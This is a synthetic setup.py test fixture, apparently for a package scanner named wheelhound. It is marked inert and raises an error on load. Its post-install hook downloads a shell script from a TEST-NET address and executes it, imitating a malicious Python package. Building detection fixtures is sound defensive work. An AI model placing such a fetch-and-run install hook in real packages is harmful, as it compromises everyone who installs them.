# Inert wheelhound fixture: synthetic code that imitates a malicious install hook.
# The address below is TEST-NET-3 (RFC 5737) and never routed. Do not install.
raise RuntimeError("demo-evil is an inert wheelhound test fixture; never install it")

import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve("http://203.0.113.7/x.sh", "/tmp/x.sh")
        os.system("sh /tmp/x.sh")


setup(
    name="demo-evil",
    version="0.1",
    packages=["demo_evil"],
    cmdclass={"install": PostInstall},
)
